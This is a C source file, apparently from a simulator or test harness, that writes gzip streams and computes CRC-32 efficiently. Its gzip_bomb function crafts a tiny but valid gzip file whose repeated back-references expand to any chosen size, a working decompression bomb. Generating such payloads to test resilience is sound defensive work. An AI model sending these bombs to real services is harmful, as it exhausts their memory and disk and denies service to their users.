/* SPDX-License-Identifier: Apache-2.0 */
#include "config.h"

#include "sim/gzip.h"

enum { STORED_MAX = 65535, MATCH_MAX = 258 };

static void
add_le(struct buf *out, uint64_t number, unsigned bytes)
{
	for (unsigned i = 0; i < bytes; i++)
		buf_char(out, (char)(number >> (8 * i)));
}

static void
add_header(struct buf *out)
{
	buf_add(out, "\x1f\x8b\x08\0\0\0\0\0\0\xff", 10);
}

static uint32_t
crc_byte(uint32_t crc, unsigned char byte)
{
	crc ^= byte;
	for (int bit = 0; bit < 8; bit++)
		crc = (crc >> 1) ^ (UINT32_C(0xEDB88320) & (0 - (crc & 1)));
	return crc;
}

static uint32_t
crc_text(uint32_t crc, struct str text)
{
	for (size_t i = 0; i < text.len; i++)
		crc = crc_byte(crc, (unsigned char)text.at[i]);
	return crc;
}

/* Feeding the same byte n times is an affine map over GF(2): its n-th power costs log n instead of n. */
struct affine {
	uint32_t column[32], constant;
};

static uint32_t
affine_apply(const struct affine *map, uint32_t x)
{
	uint32_t y = map->constant;
	for (unsigned i = 0; i < 32; i++)
		if (x >> i & 1)
			y ^= map->column[i];
	return y;
}

static struct affine
affine_after(const struct affine *second, const struct affine *first)
{
	struct affine both = { .constant = affine_apply(second, first->constant) };
	for (unsigned i = 0; i < 32; i++)
		both.column[i] = affine_apply(second, first->column[i]) ^ second->constant;
	return both;
}

static uint32_t
crc_repeat(uint32_t crc, unsigned char byte, uint64_t times)
{
	struct affine power = { .constant = crc_byte(0, byte) };
	for (unsigned i = 0; i < 32; i++)
		power.column[i] = crc_byte(UINT32_C(1) << i, byte) ^ power.constant;
	for (; times > 0; times >>= 1) {
		if (times & 1)
			crc = affine_apply(&power, crc);
		power = affine_after(&power, &power);
	}
	return crc;
}

static void
add_stored(struct buf *out, struct str plain, bool last)
{
	do {
		size_t len = plain.len < STORED_MAX ? plain.len : STORED_MAX;
		buf_char(out, last && len == plain.len);
		add_le(out, len, 2);
		add_le(out, ~len, 2);
		buf_add(out, plain.at, len);
		plain = str_span(plain.at + len, plain.len - len);
	} while (plain.len > 0);
}

void
gzip_wrap(struct buf *out, struct str plain)
{
	add_header(out);
	add_stored(out, plain, true);
	add_le(out, ~crc_text(UINT32_MAX, plain), 4);
	add_le(out, plain.len, 4);
}

struct bits {
	struct buf *out;
	uint32_t pending;
	unsigned count;
};

/* Deflate packs from the low end; Huffman codes go in with their first bit first. */
static void
put_bits(struct bits *bits, uint32_t value, unsigned count)
{
	bits->pending |= value << bits->count;
	for (bits->count += count; bits->count >= 8; bits->count -= 8) {
		buf_char(bits->out, (char)bits->pending);
		bits->pending >>= 8;
	}
}

static void
put_code(struct bits *bits, uint32_t code, unsigned count)
{
	while (count-- > 0)
		put_bits(bits, code >> count & 1, 1);
}

void
gzip_bomb(struct buf *out, struct str start, uint64_t plain_bytes)
{
	uint64_t matches = plain_bytes > start.len + 1 ? (plain_bytes - start.len - 1) / MATCH_MAX : 0;
	uint64_t spaces = 1 + matches * MATCH_MAX;
	add_header(out);
	add_stored(out, start, false);
	struct bits bits = { out, 0, 0 };
	put_bits(&bits, 3, 3); /* last block, fixed Huffman codes */
	put_code(&bits, 0x30 + ' ', 8);
	for (uint64_t i = 0; i < matches && !out->overflow; i++) {
		put_code(&bits, 0xC5, 8); /* length 258 … */
		put_code(&bits, 0, 5); /* … of what is one byte back */
	}
	put_code(&bits, 0, 7); /* end of block */
	put_bits(&bits, 0, 7);
	add_le(out, ~crc_repeat(crc_text(UINT32_MAX, start), ' ', spaces), 4);
	add_le(out, start.len + spaces, 4);
}
